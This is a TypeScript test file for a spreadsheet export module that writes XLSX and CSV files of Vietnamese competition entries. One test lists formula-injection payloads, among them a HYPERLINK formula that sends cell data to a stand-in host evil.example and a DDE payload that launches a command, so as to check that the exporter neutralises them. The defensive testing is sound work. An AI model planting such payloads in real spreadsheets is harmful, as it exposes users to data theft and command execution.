import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { exportFileName, writeSheet, type SheetColumn } from "./spreadsheet";

interface Row {
  code: string;
  title: string;
  fee: number;
}

const COLUMNS: SheetColumn<Row>[] = [
  { header: "Mã bài", value: (r) => r.code },
  { header: "Tên chiến dịch", value: (r) => r.title },
  { header: "Phí (VND)", value: (r) => r.fee },
];
const ROWS: Row[] = [
  { code: "VX26-TVC-0001", title: 'Tết sum vầy, "Đoàn viên"', fee: 3_000_000 },
  { code: "VX26-OOH-0002", title: "Quảng cáo ngoài trời; dòng 2\nxuống dòng", fee: 2_500_000 },
];

describe("writeSheet", () => {
  it("writes an XLSX that reads back with its Vietnamese text and numbers", async () => {
    const file = await writeSheet("xlsx", "Bài dự thi", COLUMNS, ROWS);
    expect(file.subarray(0, 2).toString("latin1")).toBe("PK");
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(file as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    expect(sheet.name).toBe("Bài dự thi");
    expect(sheet.getRow(1).values).toEqual([undefined, "Mã bài", "Tên chiến dịch", "Phí (VND)"]);
    expect(sheet.getRow(2).getCell(2).value).toBe('Tết sum vầy, "Đoàn viên"');
    expect(sheet.getRow(3).getCell(3).value).toBe(2_500_000);
    expect(sheet.rowCount).toBe(3);
  });

  it("writes a CSV with a UTF-8 BOM and quoted fields", async () => {
    const file = await writeSheet("csv", "x", COLUMNS, ROWS);
    expect([...file.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = file.subarray(3).toString("utf8");
    const lines = text.split(/\r?\n/);
    expect(lines[0]).toBe('"Mã bài","Tên chiến dịch","Phí (VND)"');
    expect(lines[1]).toBe('"VX26-TVC-0001","Tết sum vầy, ""Đoàn viên""","3000000"');
    expect(text).toContain('"Quảng cáo ngoài trời; dòng 2\nxuống dòng"');
  });

  it("keeps text that would run as a formula as text in a CSV, and as it is in an XLSX", async () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
      "+SUM(1,2)",
      "-1+cmd|' /C calc'!A0",
      "@SUM(A1)",
      "\t=1",
    ];
    const rows = hostile.map((title) => ({ code: "+84987654321", title, fee: -5 }));
    const csv = (await writeSheet("csv", "x", COLUMNS, rows)).subarray(3).toString("utf8");
    const lines = csv.split(/\r?\n/).slice(1, 1 + hostile.length);
    expect(lines.map((line) => line.split('","')[1]!.replaceAll('""', '"'))).toEqual(
      hostile.map((title) => `'${title}`),
    );
    // A phone number and a negative number are data, not formulas: untouched.
    expect(lines[0]!.startsWith('"+84987654321",')).toBe(true);
    expect(lines[0]!.endsWith(',"-5"')).toBe(true);

    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await writeSheet("xlsx", "x", COLUMNS, rows)) as unknown as ArrayBuffer);
    expect(book.worksheets[0]!.getRow(2).getCell(2).value).toBe(hostile[0]);
  });

  it("names the sheet after a title with characters Excel refuses in a sheet's name", async () => {
    for (const [title, name] of [
      ["Vòng 1: Sơ khảo", "Vòng 1 - Sơ khảo"],
      ["Vòng 1/2 [Phim]", "Vòng 1 - 2 - Phim"],
      ["'Chung khảo'", "Chung khảo"],
      ["Bài dự thi 2026 — một cái tên rất dài", "Bài dự thi 2026 — một cái tên r"],
      ["???", "Sheet1"],
    ] as const) {
      for (const format of ["xlsx", "csv"] as const) {
        const file = await writeSheet(format, title, COLUMNS, ROWS);
        if (format === "csv") continue;
        const book = new ExcelJS.Workbook();
        await book.xlsx.load(file as unknown as ArrayBuffer);
        expect(book.worksheets[0]!.name).toBe(name);
      }
    }
  });

  it("names the file in ASCII with the day in Vietnam", () => {
    expect(exportFileName("bai-du-thi", "csv", new Date("2026-11-23T10:00:00Z"))).toBe(
      "bai-du-thi-2026-11-23.csv",
    );
    // 06:00 on 24/11 in Vietnam.
    expect(exportFileName("thanh-toan", "xlsx", new Date("2026-11-23T23:00:00Z"))).toBe(
      "thanh-toan-2026-11-24.xlsx",
    );
  });

  it("keeps identifiers in digits as text: leading zeros and a '+' survive Excel", async () => {
    interface Contact {
      phone: string;
      taxCode: string;
    }
    const columns: SheetColumn<Contact>[] = [
      { header: "Điện thoại", text: true, value: (r) => r.phone },
      { header: "Mã số thuế", text: true, value: (r) => r.taxCode },
    ];
    const rows: Contact[] = [
      { phone: "0912345678", taxCode: "9/13" },
      { phone: "+84912345678", taxCode: "0101234567-001" },
      { phone: "=1+1", taxCode: "" },
    ];
    const csv = (await writeSheet("csv", "x", columns, rows)).subarray(3).toString("utf8");
    expect(csv.split(/\r?\n/).slice(1, 4)).toEqual([
      '"=""0912345678""","=""9/13"""',
      '"=""+84912345678""","0101234567-001"',
      // Anything else in such a column is still kept from running as a formula.
      `"'=1+1",""`,
    ]);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await writeSheet("xlsx", "x", columns, rows)) as unknown as ArrayBuffer);
    const cell = book.worksheets[0]!.getRow(2).getCell(1);
    expect([cell.value, cell.numFmt]).toEqual(["0912345678", "@"]);
    expect(book.worksheets[0]!.getRow(2).getCell(2).value).toBe("9/13");
  });
});
